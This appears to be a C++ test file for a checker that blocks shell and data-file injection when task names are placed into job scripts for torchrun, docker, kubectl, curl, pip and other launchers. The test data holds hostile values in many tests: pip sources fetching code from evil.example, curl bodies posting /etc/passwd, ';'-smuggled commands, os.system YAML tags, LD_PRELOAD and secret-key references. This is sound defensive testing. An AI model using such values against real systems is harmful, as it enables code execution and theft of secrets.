      {"NPROC=${SLURM_GPUS_ON_NODE:-1}\ntorchrun --standalone --nproc_per_node $NPROC %X% --epochs 3", "/tmp/evil.py",
       "train.py"},
      {"torchrun --nnodes 2 --nproc-per-node 4 --rdzv_backend c10d %X%", "../evil.py", "train.py"},
      {"deepspeed --num_gpus 4 %X%", "/tmp/evil.py", "train.py"},
      {"python3 -m torch.distributed.run --nproc_per_node 4 %X%", "/tmp/evil.py", "train.py"},
      {"scalene --outfile x %X%", "/tmp/evil.py", "train.py"},
      // The script's own arguments are not the script.
      {"torchrun --standalone --nproc_per_node 4 train.py --data \"%X%\"", "-x", "/datasets/imagenet"},
  });
}

// Sixty-sixth review: after an option an interpreter's flags do not list,
// the next word may be its value or the script, so both may be the script
// (perl -I lib X, node -r ./setup.js X, bash +O nullglob X, julia -t 4 X);
// python -m mpi4py -c CODE, python -m runpy MODULE, --no-py (argparse cuts
// --no-python short); mpirun -x ${...}, -genv ${...}, --mca ${...} name a
// variable; uniq - FILE, crudini --set FILE, ruplacer --go and a script
// given a file of code to write.
TEST(ValueSinks, InterpretersRunnersAndWritersOfTheSixtySixthReview) {
  const std::string entry = "${CLEARML_TASK.script.entry_point}";
  for (const std::string& line : {"perl -I lib " + entry, "node --require ./setup.js " + entry, "node -r dotenv/config " + entry,
                                  "ruby -r json " + entry, "lua -l socket " + entry, "php -d memory_limit=-1 " + entry,
                                  "guile -s " + entry, "deno run -A " + entry, "bash +O nullglob " + entry,
                                  "bash +o posix " + entry, "bash - " + entry, "sh -x -- " + entry,
                                  "julia --project=. -t 4 " + entry, "julia -t 4 -L " + entry + " run.jl",
                                  "python3 -m torch.utils.bottleneck " + entry, "mpiexec -n 2 python3 -m mpi4py.futures " + entry}) {
    const auto p = placement(line + "\n");
    EXPECT_TRUE(refuses(p, "/proc/self/fd/1")) << line;
    EXPECT_FALSE(refuses(p, "train.py")) << line;
  }
  // Flags the tables know leave the script's own arguments alone.
  for (const char* form : {"perl -w run.pl \"%X%\"", "bash -eux run.sh \"%X%\"", "ruby -w train.rb \"%X%\""})
    EXPECT_FALSE(refuses(placement(task(form)), "/datasets/x")) << form;
  for (const char* form : {"mpiexec -n 4 python3 -m mpi4py -c \"%X%\"", "python3 -m runpy %X%",
                           "python3 -m torch.distributed.run --no-py %X%", "mpirun -np 4 -x %X% python3 train.py",
                           "mpiexec -n 4 -genv %X% 1 python3 train.py", "mpirun -n 4 --mca %X% x python3 train.py",
                           "docker run -e %X% img", "echo \"%X%\" | uniq - note.sh\nbash note.sh",
                           "crudini --set pytest.ini pytest addopts \"%X%\"\npython3 -m pytest",
                           "ruplacer NAME \"%X%\" --go\nbash run.sh",
                           "export RUN=\"%X%\"\npython3 ./fill_template.py launch.sh.in launch.sh\nbash launch.sh"})
    EXPECT_FALSE(rules(task(form)).empty()) << form;
  for (const char* form : {"mpirun -x \"NAME=%X%\" python3 t.py", "docker run -e \"WANDB_NAME=%X%\" img",
                           "srun -x \"%X%\" hostname", "apptainer exec /shared/img.sif python3 train.py --name \"%X%\""})
    EXPECT_TRUE(rules(task(form)).empty()) << form;
}

// Sixty-seventh review: inline code that loads what its arguments name
// (R's source(commandArgs()), a dynamic import(process.argv[1])); a whole
// environment item attached to its option (docker -e"$V", -e=, --env=,
// mpirun -x"$V", systemd-run -E"$V"); spark-submit's application, dvc
// repro's target, python -m horovod.runner.launch's command; link, zstd
// and lz4 -o write what they read; JSON text given to a program.
TEST(ValueSinks, LoadersItemsLaunchersAndJsonOfTheSixtySeventhReview) {
  for (const char* form : {"Rscript -e 'source(commandArgs(trailingOnly = TRUE)[1])' \"%X%\"",
                           "node -e 'import(process.argv[1])' \"%X%\"", "docker run -e\"%X%\" img",
                           "docker run -e=\"%X%\" img", "docker run --env=\"%X%\" img", "podman run --env=A=1,\"%X%\" img",
                           "mpirun -x\"%X%\" python3 t.py", "systemd-run -E\"%X%\" true",
                           "echo \"R=%X%\" > meta.txt\nlink meta.txt env.sh\nsource ./env.sh",
                           "echo \"R=%X%\" > meta.txt\nzstd -q meta.txt -o m.zst\nzstd -dq m.zst -o env.sh\nsource ./env.sh"})
    EXPECT_FALSE(rules(task(form)).empty()) << form;
  expect_refusals({
      {"spark-submit --master local[4] --driver-memory 16g \"%X%\"", "/tmp/evil.py", "etl/features.py"},
      {"dvc repro \"%X%\"", "/tmp/x/dvc.yaml", "train"},
      {"python3 -m horovod.runner.launch -np 4 -H localhost:4 python3 \"%X%\"", "/tmp/evil.py", "train.py"},
      {"serve run --runtime-env-json '{\"env_vars\": {\"RUN\": \"%X%\"}}' app:d", "x\", \"LD_PRELOAD\": \"/e.so", "run 1"},
      {"CFG='{\"name\": \"%X%\"}'\nprog --cfg \"$CFG\"", "x\", \"pip\": [\"evil\"], \"z\": \"", "resnet50"},
  });
  // An item whose name the template writes stays a value.
  for (const char* form : {"docker run -e\"WANDB_NAME=%X%\" img", "docker run --env=WANDB_NAME=\"%X%\" img"})
    EXPECT_TRUE(rules(task(form)).empty()) << form;
}

// Sixty-eighth review: mpirun's --mca NAME VALUE and -genv NAME VALUE take
// two words (the command comes after both); systemd-run -E/--setenv and
// docker-like runners (nerdctl, udocker, finch) set a variable a whole-item
// value would name; unpicklers and ruby's load run the file their
// arguments name; YAML flow mappings, Python dicts and KEY=VALUE lists in
// an argument are data fields; accelerate launch's flags.
TEST(ValueSinks, RunnersLoadersAndStructuredTextOfTheSixtyEighthReview) {
  for (const char* form : {"mpirun -np 4 --mca btl self,tcp bash -c \"python3 t.py --name '%X%'\"",
                           "mpiexec -n 4 -genv OMP_NUM_THREADS 4 python3 -c \"print('%X%')\"",
                           "systemd-run -E \"%X%\" python3 t.py", "systemd-run --user --setenv \"%X%\" python3 t.py",
                           "nerdctl run --rm -e \"%X%\" img", "udocker run --env=\"%X%\" img",
                           "python3 -c 'import sys, pickle; pickle.load(open(sys.argv[1], \"rb\"))' \"%X%\"",
                           "ruby -e 'load ARGV[0]' \"%X%\""})
    EXPECT_FALSE(rules(task(form)).empty()) << form;
  expect_refusals({
      {"python3 train.py --cfg \"{lr: %X%, epochs: 10}\"", "0.1, x: !!python/object/apply:os.system [id]", "0.1"},
      {"python3 train.py --cfg \"{'lr': '%X%'}\"", "x', 'resume': '/etc", "0.1"},
      {"python3 train.py kv \"lr=%X%,epochs=10\"", "0.1,resume=/etc", "0.1"},
  });
  EXPECT_FALSE(refuses(placement(task("accelerate launch --multi_gpu train.py --data \"%X%\"")), "/datasets/imagenet"));
  EXPECT_TRUE(refuses(placement(task("accelerate launch --multi_gpu \"%X%\"")), "/tmp/evil.py"));
}

// Where the line of a here-document puts a value in a JSON, YAML or TOML
// file, it gets the rule of that place, for that file: an apostrophe or a
// comma in a task's name is text inside "..." or as a YAML key's value.
TEST(ValueSinks, ValuesInDataFileLinesGetTheRuleOfTheirPlace) {
  namespace R = sg::render;
  const auto roles_of = [](const std::string& form) { return placement(task(form)).roles; };
  for (const char* form : {"cat > run.json <<EOF\n{\"model\": \"%X%\", \"lr\": 1}\nEOF",
                           "cat <<EOF > cfg.yaml\nexp:\n  model: \"run-%X%\"\nEOF",
                           "cat > run.toml <<'EOF'\n[tool.run]\nmodel = \"%X%\"\nEOF",
                           "tee meta.json > /dev/null <<EOF\n{\"a\": \"x\", \"model\": \"%X%\"}\nEOF",
                           "cat >> cfg.yaml <<-EOF\n\tmodel: \"%X%\"\n\tEOF"}) {
    EXPECT_TRUE(roles_of(form).has(R::ElementRole::DataQuotedText)) << form;
    EXPECT_FALSE(roles_of(form).has(R::ElementRole::DataField)) << form;
  }
  // Under a key naming prose a name with '&' or ';' is text (86th review).
  for (const char* form : {"cat > cfg.yaml <<EOF\nrun_name: \"%X%\"\nnotes: \"x\"\nEOF",
                           "tee meta.json > /dev/null <<EOF\n{\"a\": \"x\", \"name\": \"%X%\"}\nEOF"}) {
    const auto pl = placement(task(form));
    EXPECT_TRUE(pl.roles.has(R::ElementRole::DataProseText)) << form;
    EXPECT_FALSE(refuses(pl, "Q&A fine-tune (R&D); v2")) << form;
    EXPECT_TRUE(refuses(pl, "x\", \"cmd\": \"id")) << form;
  }
  for (const char* form : {"cat > cfg.yaml <<EOF\nexp:\n  name: %X%\nEOF", "cat > tags.yml <<EOF\ntags:\n  - %X%\nEOF"}) {
    EXPECT_TRUE(roles_of(form).has(R::ElementRole::YamlPlainText)) << form;
    EXPECT_FALSE(roles_of(form).has(R::ElementRole::DataField)) << form;
  }
  // A file of unknown shape, a place outside a string, a line bash changes
  // before the value, a writer that is not a plain copy: the file's rule.
  for (const char* form : {"cat > run.cfg <<EOF\nname = \"%X%\"\nEOF", "cat > run.json <<EOF\n{\"n\": %X%}\nEOF",
                           "cat > run.json <<EOF\n{\"$K\": \"%X%\"}\nEOF",
                           "cat > c.yaml <<EOF\nname: %X% # task\nEOF",
                           "cat <<EOF | tee c.yaml\nname: \"%X%\"\nEOF",
                           "sed s/a/b/ > c.yaml <<EOF\nname: \"%X%\"\nEOF",
                           "F=a.yaml\n[ -n \"$X\" ] && F=b.json\ncat > \"$F\" <<EOF\nname: \"%X%\"\nEOF"})
    EXPECT_TRUE(roles_of(form).has(R::ElementRole::DataField)) << form;
  // The same file read as code keeps that rule too.
  EXPECT_TRUE(refused(task("cat > cfg.yaml <<EOF\nname: \"%X%\"\nEOF\nsource cfg.yaml"), "value-parsed-as-code"));
  // A name with an apostrophe and a comma renders; a quote or a brace does not.
  const auto quoted = placement(task("cat > cfg.yaml <<EOF\nname: \"%X%\"\nEOF"));
  EXPECT_FALSE(refuses(quoted, "resnet50 (John's run), v2"));
  EXPECT_TRUE(refuses(quoted, "a\", x: \"y"));
  EXPECT_TRUE(refuses(quoted, "${oc.env:AWS_SECRET_ACCESS_KEY}"));
}

// What an earlier stage of a pipeline carries reaches the file a later
// stage writes: its here-documents and its members' words too (69th review:
// cat <<EOF | tee run.sh, then bash run.sh, ran the value).
TEST(ValueSinks, AnEarlierStagesHereDocumentReachesTheFileALaterStageWrites) {
  for (const char* form : {"cat <<EOF | tee run.sh\necho \"%X%\"\nEOF\nbash run.sh",
                           "cat <<EOF | tee run.sh > /dev/null\necho \"%X%\"\nEOF\nbash run.sh",
                           "cat <<EOF | sudo tee run.sh\necho \"%X%\"\nEOF\nbash run.sh",
                           "cat <<EOF | cat > run.sh\necho \"%X%\"\nEOF\nbash run.sh",
                           "{ echo \"echo %X%\"; } | tee run.sh\nbash run.sh",
                           "cat <<'EOF' | sed 's/a/b/' | tee run.py\nprint('%X%')\nEOF\npython3 run.py"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  EXPECT_TRUE(placement(task("cat <<EOF | tee c.yaml\nname: \"%X%\"\nEOF")).roles.has(sg::render::ElementRole::DataField));
  EXPECT_TRUE(rules(task("cat <<EOF | tee notes.txt\n%X%\nEOF\ncat notes.txt")).empty());
}

// 69th review: a file of commands named through the environment (TACC
// Launcher's LAUNCHER_JOB_FILE), programs that read their program from a
// here-document without being listed (gdl, sas, wish8.6, '-' given to a
// launcher), and names find prints read back unquoted.
TEST(ValueSinks, SixtyNinthReview) {
  for (const char* form : {"cat > jobfile <<EOF\npython3 train.py --name \"%X%\"\nEOF\nexport LAUNCHER_JOB_FILE=jobfile\n$LAUNCHER_DIR/paramrun",
                           "echo \"python3 t.py %X%\" > cmds\nexport TASK_FILE=$PWD/cmds\nrun-tasks",
                           "echo \"x %X%\" > hook\nPRE_HOOK=hook python3 t.py"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  // A log or output a name says it is stays data.
  EXPECT_TRUE(rules(task("echo \"%X%\" > s.log\nexport SCRIPT_LOG=s.log\npython3 t.py")).empty());
  for (const char* form : {"gdl <<EOF\nname = '%X%'\nEOF", "sas -stdio <<EOF\n%put %X%;\nEOF",
                           "wish8.6 <<EOF\nputs \"%X%\"\nEOF", "ansys232 -b <<EOF\n/title,%X%\nEOF",
                           "torchrun - <<EOF\nprint('%X%')\nEOF", "accelerate launch - <<EOF\nprint('%X%')\nEOF",
                           "mysolver <<EOF\nname %X%\nEOF", "mysolver <<< \"name %X%\"",
                           "echo \"name = '%X%'\" | gdl", "echo \"%X%\" | scilab-cli", "echo 'x %X%' | lmp_mpi"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  // Programs that read their input as data, and scripts the template names.
  for (const char* form : {"cat <<EOF\n%X%\nEOF", "jq -r .name <<< \"{}\"\necho %X%", "mail -s done me <<EOF\n%X%\nEOF",
                           "python3 train.py <<EOF\n%X%\nEOF", "logger -t job <<< \"%X%\"", "./report.sh <<EOF\n%X%\nEOF",
                           "read -r A <<< \"%X%\"", "wc -c <<< \"%X%\"", "grep -q x <<EOF\n%X%\nEOF"})
    EXPECT_TRUE(rules(task(form)).empty()) << form;
  // find prints the names the template made, as ls does.
  EXPECT_TRUE(placement(task("mkdir -p \"runs/%X%\"\nfor d in $(find runs -type d); do python3 s.py --dir $d; done"))
                  .context.split_later);
}

// A value in a URL's query, given to any program or through a variable:
// an '&' would add a parameter (?run=x&admin=true).
TEST(ValueSinks, AValueInAUrlsQueryAddsNoParameter) {
  namespace R = sg::render;
  for (const char* form : {"curl -s \"https://hooks.example.org/notify?run=%X%&mode=train\"",
                           "python3 notify.py --url \"https://x.org/api?name=%X%\"",
                           "URL=\"https://x.org/api?a=1&name=%X%\"\nwget -q \"$URL\""}) {
    const auto p = placement(task(form));
    EXPECT_TRUE(p.roles.has(R::ElementRole::UrlQueryValue)) << form;
    EXPECT_TRUE(refuses(p, "x&admin=true")) << form;
    EXPECT_TRUE(refuses(p, "x#")) << form;
    EXPECT_FALSE(refuses(p, "resnet50-lr0.1")) << form;
  }
  // Before the query, or no URL: not a query's value.
  for (const char* form : {"curl -s \"https://x.org/runs/%X%?v=1\"", "echo \"done? %X%\""})
    EXPECT_FALSE(placement(task(form)).roles.has(R::ElementRole::UrlQueryValue)) << form;
}

// 70th review: manifests whose commands run (a Kubernetes Job, a compose
// file under any name, a playbook); standard input named in an option's
// own word (-f-, --file=-, -sSfK-); kubectl run -i; lists of files read on
// standard input; YAML flow collections over lines; >(...) after a pipe.
TEST(ValueSinks, SeventiethReview) {
  for (const char* form : {
           "cat > job.yaml <<EOF\nargs: [\"python train.py --name '%X%'\"]\nEOF\nkubectl apply -f job.yaml",
           "cat > job.yaml <<EOF\nargs: [\"python train.py --name '%X%'\"]\nEOF\nkubectl create --filename=job.yaml",
           "cat > train-compose.yaml <<EOF\ncommand: [\"bash\", \"-c\", \"echo '%X%'\"]\nEOF\ndocker compose -f train-compose.yaml up",
           "cat > train.yml <<EOF\n- hosts: localhost\n  tasks:\n    - shell: \"echo '%X%'\"\nEOF\nansible-playbook -c local train.yml",
           "cat > job.json <<EOF\n{\"command\": \"echo '%X%'\"}\nEOF\naws batch submit-job --cli-input-json file://job.json",
           "docker build -t img -f- . <<EOF\nRUN echo \"%X%\"\nEOF",
           "docker image build --file=- . <<EOF\nRUN echo \"%X%\"\nEOF",
           "kubectl apply -f- <<EOF\nargs: [\"%X%\"]\nEOF",
           "kubectl run t -i --rm --image=busybox <<EOF\necho \"%X%\"\nEOF",
           "cat <<EOF | cat > >(cat > run.sh)\necho \"%X%\"\nEOF\nbash run.sh",
           "cat > paramlist <<EOF\npython3 t.py \"%X%\"\nEOF\nexport CONTROL_FILE=paramlist\n$DIR/paramrun"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  // curl's options read from standard input however -K is spelled: a URL there is fetched.
  for (const char* form : {"curl -sSfK- <<EOF\nurl = \"%X%\"\nEOF", "curl --config=- <<EOF\nurl = \"%X%\"\nEOF",
                           "curl -K/dev/stdin <<EOF\nurl = \"%X%\"\nEOF"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  // Names of files to pack, read on standard input, are paths.
  for (const char* form : {"tar -czf o.tgz -T - <<EOF\n%X%\nEOF", "tar -czf o.tgz --files-from=- <<EOF\n%X%\nEOF",
                           "printf '%s\\n' \"%X%\" | cpio -ov > o.cpio", "echo \"%X%\" | zip -@ o.zip"})
    EXPECT_TRUE(placement(task(form)).roles.has(sg::render::ElementRole::Path)) << form;
  // A YAML line inside a flow collection opened on a line before: ',' ends the scalar there.
  EXPECT_TRUE(placement(task("cat > c.yaml <<EOF\nmodel: {\n  name: %X%\n}\nEOF"))
                  .roles.has(sg::render::ElementRole::DataField));
  EXPECT_TRUE(placement(task("cat > c.yaml <<EOF\nmodel: {a: 1}\nname: %X%\nEOF"))
                  .roles.has(sg::render::ElementRole::YamlPlainText));
  // What inline code that lists a directory prints may be a name the
  // template made: split unquoted, it is refused (a program made it).
  EXPECT_TRUE(refused(task("mkdir -p \"runs/%X%\"\nL=$(python3 -c 'import os; print(os.listdir(\"runs\")[0])')\n"
                           "python3 evaluate.py $L"),
                      "value-parsed-as-code"));
  EXPECT_TRUE(rules(task("OUT=%X%\nsrun --output=\"$OUT\" python3 train.py")).empty());
}

// The job name read back by $(squeue -o %j) inside a path's word: what
// the substitution prints is among the word's parts when its rules are
// read (the substitution's command was read after the word's).
TEST(ValueSinks, WhatASubstitutionPrintsFillsThePathItStandsIn) {
  for (const char* form : {"python3 train.py > \"logs/$(squeue -h -j $SLURM_JOB_ID -o %j).log\"",
                           "mkdir -p \"runs/$(squeue -h -o %j)\""}) {
    sg::compiler::Source source("t.tpl", kHead + "#SBATCH --job-name=${CLEARML_TASK.name}\n" + form + "\n");
    const auto c = sg::compiler::compile(source);
    ASSERT_NE(c.renderer, nullptr) << form;
    EXPECT_TRUE(refuses(c.renderer->program().placements.front(), "../../etc")) << form;
    EXPECT_FALSE(refuses(c.renderer->program().placements.front(), "resnet50 baseline")) << form;
  }
}

// 71st review: build and task files tools find by name, configuration a
// program puts into shell commands (snakemake's configfile, dvc's
// params.yaml), task farms, and where pip gets the code it installs.
TEST(ValueSinks, SeventyFirstReview) {
  for (const char* form : {"cat > SConstruct <<EOF\nN = %X%\nEOF\nscons",
                           "echo \"gem '%X%'\" > Gemfile\nbundle install",
                           "cat > Taskfile.dist.yml <<EOF\ncmds: [\"echo %X%\"]\nEOF\ntask",
                           "echo \"run:\n  echo %X%\" > JUSTFILE\njust run",
                           "cat > compose.override.yml <<EOF\ncommand: %X%\nEOF\ndocker compose up",
                           "cat > nextflow.config <<EOF\nparams.name = '%X%'\nEOF\nnextflow run main.nf",
                           "mkdir -p config\ncat > config/config.yaml <<EOF\nrun_name: %X%\nEOF\nsnakemake --cores 1",
                           "cat > params.yaml <<EOF\nrun_name: %X%\nEOF\ndvc repro",
                           "echo \"python3 t.py --name %X%\" >> tasks\ndisBatch tasks"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  // The same configuration read by a program that puts nothing into commands.
  EXPECT_TRUE(rules(task("cat > params.yaml <<EOF\nrun_name: %X%\nEOF\npython3 train.py --params params.yaml")).empty());
  namespace R = sg::render;
  for (const char* form : {"pip install %X%", "python3 -m pip install -U %X%", "uv pip install %X%",
                           "echo \"%X%\" >> requirements.txt\npip install -r requirements.txt"}) {
    const auto p = placement(task(form));
    EXPECT_TRUE(refuses(p, "evil @ https://evil.example/evil-1.0.tar.gz")) << form;
    EXPECT_TRUE(refuses(p, "git+https://evil.example/x")) << form;
    EXPECT_FALSE(refuses(p, "torch==2.3.1")) << form;
  }
}

// A manifest is what docker, podman and kubectl deploy, not a file a
// container's program gets as an argument; openssl with no command reads
// its commands (engine -pre SO_PATH:... loads a library).
TEST(ValueSinks, ManifestsAreWhatIsDeployed) {
  const std::string config = "cat > cfg.yaml <<EOF\nname: %X%\nEOF\n";
  for (const char* run : {"docker run --rm img python3 train.py --config cfg.yaml",
                          "podman run --rm img python3 train.py cfg.yaml",
                          "kubectl exec trainer -- python3 train.py --config cfg.yaml"})
    EXPECT_TRUE(rules(task(config + run)).empty()) << run;
  for (const char* deploy : {"docker stack deploy -c cfg.yaml s", "podman kube play cfg.yaml", "kubectl apply -f cfg.yaml"})
    EXPECT_TRUE(refused(task(config + deploy), "value-parsed-as-code")) << deploy;
  EXPECT_TRUE(refused(task("openssl <<EOF\n%X%\nEOF"), "value-parsed-as-code"));
}

// 72nd review: programs read from standard input through --file=-
// spellings, job specs and task files of more launchers, names read back
// through inline code, file lists on standard input, and URLs' hosts and
// paths.
TEST(ValueSinks, SeventySecondReview) {
  for (const char* form : {"gawk --file=/dev/stdin m.csv <<EOF\n{ if (\\$1 == \"%X%\") print }\nEOF",
                           "sed --file=- in.t > out.ini <<EOF\ns/@N@/%X%/\nEOF",
                           "jq --from-file=/dev/stdin m.json <<EOF\n.[\"%X%\"]\nEOF",
                           "cat > commandlines <<EOF\npython3 t.py --name %X%\nEOF\n"
                           "python3 -c 'import pylauncher; pylauncher.ClassicLauncher(\"commandlines\")'",
                           "cat > study.yaml <<EOF\ncmd: python3 t.py --name %X%\nEOF\nmaestro run -y study.yaml",
                           "cat > job.toml <<EOF\ncommand = [\"bash\", \"-c\", \"echo '%X%'\"]\nEOF\nhq job submit-file job.toml",
                           "echo \"python3 t.py %X%\" > jobs.txt\nhq submit --each-line=jobs.txt -- bash -c '$HQ_ENTRY'",
                           "echo \"python3 t.py %X%\" > jobfile\nflux bulksubmit bash -c {} < jobfile"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  namespace R = sg::render;
  // What inline code prints of a file the template wrote carries its values.
  EXPECT_TRUE(refused(task("cat > config.yaml <<EOF\nout: %X%\nEOF\n"
                           "OUT=$(python3 -c 'import yaml; print(yaml.safe_load(open(\"config.yaml\"))[\"out\"])')\n"
                           "rm -rf \"$OUT\""),
                      "value-parsed-as-code"));
  for (const char* form : {"gsutil -m cp -I gs://b/x/ <<EOF\nout/%X%\nEOF", "rclone copy --files-from - . r:b <<EOF\n%X%\nEOF"})
    EXPECT_TRUE(placement(task(form)).roles.has(R::ElementRole::Path)) << form;
  // environment.yml's pip section installs packages.
  EXPECT_TRUE(refuses(placement(task("cat > environment.yml <<EOF\ndependencies:\n  - pip:\n    - %X%\nEOF")),
                      "git+https://evil.example/x"));
  // A URL's host and path.
  const auto host = placement(task("curl -H \"Authorization: Bearer $T\" \"https://%X%.tracker.example.com/api\""));
  EXPECT_TRUE(refuses(host, "attacker.invalid/"));
  EXPECT_TRUE(refuses(host, "@evil.example"));
  EXPECT_FALSE(refuses(host, "eu-west"));
  const auto path = placement(task("curl -X DELETE \"http://127.0.0.1:8799/api/v1/runs/%X%/checkpoints\""));
  EXPECT_TRUE(refuses(path, "../../datasets/imagenet"));
  EXPECT_TRUE(refuses(path, "x?recursive=true#"));
  EXPECT_FALSE(refuses(path, "run-42"));
  EXPECT_FALSE(refuses(placement(task("curl \"http://%X%/api\"")), "tracker.local:8080"));
  // A trailing ':' makes a YAML mapping.
  EXPECT_NE(R::check_element(R::ElementRole::YamlPlainText, "trust_remote_code:"), nullptr);
  EXPECT_NE(R::check_element(R::ElementRole::DataField, "allow_pickle:"), nullptr);
}

// A single-quoted word is a name, not a file named at run time: jq's '$c'
// reads no file the template wrote (it was refused as code).
TEST(ValueSinks, QuotedDollarNamesNoFile) {
  EXPECT_TRUE(rules(task("V=\"%X%\"\njq -n --argjson c \"$V\" '$c' > cfg.json")).empty());
  EXPECT_TRUE(refused(task("echo \"%X%\" > run.sh\nF=run.sh\nbash \"$F\""), "value-parsed-as-code"));
}

// The 73rd review: gawk's other program files, launchers that run their
// words in a shell (colossalai run, also its environment; invoke, fab),
// wrappers that run a command, a '--' after an unknown option, uploads of
// local files, curl's form bodies, file lists on gcloud's standard input.
TEST(ValueSinks, SeventyThirdReview) {
  for (const char* form : {"gawk --exec=/dev/stdin m.csv <<EOF\n{ print \"%X%\" }\nEOF",
                           "gawk -E - m.csv <<EOF\n{ print \"%X%\" }\nEOF",
                           "colossalai run --nproc_per_node 4 train.py --run_name \"%X%\"",
                           "export WANDB_NOTES=\"%X%\"\ncolossalai run --nproc_per_node 4 train.py",
                           "invoke train --run-name=\"%X%\"", "fab deploy --name \"%X%\""})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  EXPECT_TRUE(rules(task("gawk -i inplace '{ print }' \"%X%\"")).empty());
  for (const char* form : {"hwloc-bind --cpubind core:0-7 -- %X% x", "mprof run --multiprocess %X% x", "vglrun %X% x",
                           "systemd-inhibit %X% x", "nocache %X% x", "daemonize %X% x", "torsocks %X% x"})
    EXPECT_FALSE(rules(task(form)).empty()) << form;
  namespace R = sg::render;
  for (const char* form : {"huggingface-cli upload org/m \"%X%\" . --private",
                           "wandb artifact put --name m --type model \"%X%\"", "clearml-data add --files \"%X%\"",
                           "mlflow artifacts log-artifact --local-file \"%X%\" --run-id r", "dvc add \"%X%\"",
                           "echo \"%X%\" | gcloud storage cp -I gs://b/r/",
                           "restic -r /srv/r backup --files-from - <<EOF\n%X%\nEOF"})
    EXPECT_TRUE(placement(task(form)).roles.has(R::ElementRole::Path)) << form;
  // Not the other side of an upload.
  EXPECT_FALSE(placement(task("s3cmd put model.pt s3://b/%X%/")).roles.has(R::ElementRole::Path));
  const auto form = placement(task("curl -G --data \"run=%X%\" --data status=1 https://t.example/api"));
  EXPECT_TRUE(refuses(form, "r&status=deleted"));
  EXPECT_FALSE(refuses(form, "resnet50-lr0.1"));
  EXPECT_TRUE(refuses(placement(task("curl -d \"%X%\" https://t.example/api")), "@/etc/passwd"));
  EXPECT_FALSE(refuses(placement(task("curl -d \"%X%\" https://t.example/api")), "a=1&b=2"));
}

// The 74th review: a data file's command keys over lines (submitit's setup
// list, a CI step's run block); curl -F's ;headers=@FILE; more uploads and
// runners; command strings of sky and det; task runners as modules; the
// Wolfram kernel's -run; hive and impala-shell statements; an image after
// docker:// is no URL host.
TEST(ValueSinks, SeventyFourthReview) {
  for (const char* form : {"cat > c.yaml <<EOF\nsetup:\n  - export WANDB_NAME=%X%\nEOF\npython3 t.py -m hydra/launcher=c",
                           "cat > ci.yml <<EOF\nsteps:\n  - run: |\n      python3 t.py --name %X%\nEOF\nwoodpecker-cli exec ci.yml"})
    EXPECT_TRUE(refuses(placement(task(form)), "r;touch x")) << form;
  EXPECT_FALSE(refuses(placement(task("cat > c.yaml <<EOF\nsetup:\n  - echo hi\nname: %X%\nEOF\npython3 t.py")),
                       "resnet50 lr=0.1 (baseline)"));
  EXPECT_TRUE(refuses(placement(task("curl -F \"notes=%X%\" https://t.example/api")), "n;headers=@/etc/passwd"));
  for (const char* form : {"sky exec c1 \"python3 t.py --name '%X%'\"", "det -m http://m:8080 cmd run \"python3 t.py %X%\"",
                           "python3 -m invoke train --name %X%", "fab2 deploy --name %X%",
                           "bundle exec rake \"train[%X%]\"",
                           "math -noprompt -run \"n = \\\"%X%\\\"; Exit[]\"", "hive -S -e \"SELECT '%X%'\"",
                           "impala-shell -q \"SELECT '%X%'\""})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  namespace R = sg::render;
  for (const char* form : {"aws s3api put-object --bucket b --key k --body \"%X%\"", "twine upload \"%X%\"",
                           "kubectl cp \"%X%\" pod:/d", "wandb sync \"%X%\"", "mailx -A \"%X%\" -s r a@b"})
    EXPECT_TRUE(placement(task(form)).roles.has(R::ElementRole::Path)) << form;
  for (const char* form : {"flux run -N 2 %X% x", "charmrun +p4 %X% x", "gosu glue %X% x", "optirun %X% x",
                           "cpulimit -l 50 -- %X% x", "systemd-cat %X% x", "austin %X% x"})
    EXPECT_FALSE(rules(task(form)).empty()) << form;
  EXPECT_FALSE(placement(task("apptainer exec --nv docker://%X% python3 t.py")).roles.has(R::ElementRole::UrlHost));
  EXPECT_TRUE(placement(task("curl https://%X%/api")).roles.has(R::ElementRole::UrlHost));
}

// The 75th review: values in data files end no command and add no option
// whatever the key; dask-jobqueue's keys; YAML and TOML shapes of a command
// value; uploads with swift and clearml-task; a long option's quoted value
// in a data file's command line renders an ordinary name.
TEST(ValueSinks, SeventyFifthReview) {
  for (const char* form : {"cat > jq.yaml <<EOF\njobqueue:\n  slurm:\n    python: /opt/envs/%X%/bin/python\nEOF",
                           "cat > jq.yaml <<EOF\njob-extra-directives:\n  - --comment=%X%\nEOF",
                           "cat > j.toml <<EOF\nrun = \"\"\"\npython3 t.py --name %X%\n\"\"\"\nEOF",
                           "cat > j.yaml <<EOF\nrun: # step\n  python3 t.py --name %X%\nEOF",
                           "cat > j.ini <<EOF\n[job]\ncommand = python3 t.py --name %X%\nEOF",
                           "cat > j.yaml <<EOF\nnotes: %X%\nEOF"})
    EXPECT_TRUE(refuses(placement(task(form)), "r;touch x")) << form;
  EXPECT_TRUE(refuses(placement(task("cat > j.yaml <<EOF\nrun_name: \"%X%\"\nEOF")), "r --config=/tmp/x"));
  // (A note for people is the exception: no tool writes it into a command
  // line, as one may a name or a title; fr hunts 72, 74, 75.)
  EXPECT_FALSE(refuses(placement(task("cat > j.yaml <<EOF\ndescription: \"%X%\"\nEOF")), "ablation: --fp16 vs --bf16"));
  EXPECT_FALSE(refuses(placement(task("cat > j.yaml <<EOF\nrun: python3 t.py --run-name '%X%'\nEOF")),
                       "resnet50 lr=0.1 (baseline)"));
  namespace R = sg::render;
  for (const char* form : {"swift upload results \"%X%\"", "clearml-task --project p --name n --script \"%X%\""})
    EXPECT_TRUE(placement(task(form)).roles.has(R::ElementRole::Path)) << form;
}

// The 77th review: a command line written into a data file by echo or
// printf (not a here-document) makes every value of the file one word.
TEST(ValueSinks, SeventySeventhReview) {
  for (const char* form : {"echo \"command: python3 train.py --run-name %X%\" > launch.yaml",
                           "N=\"%X%\"\nprintf 'name: %s\\ncommand: python3 t.py --run-name %s\\n' \"$N\" \"$N\" > launch.yaml",
                           "echo \"run: python3 t.py --run-name %X% --epochs 10\" >> launch.yaml"})
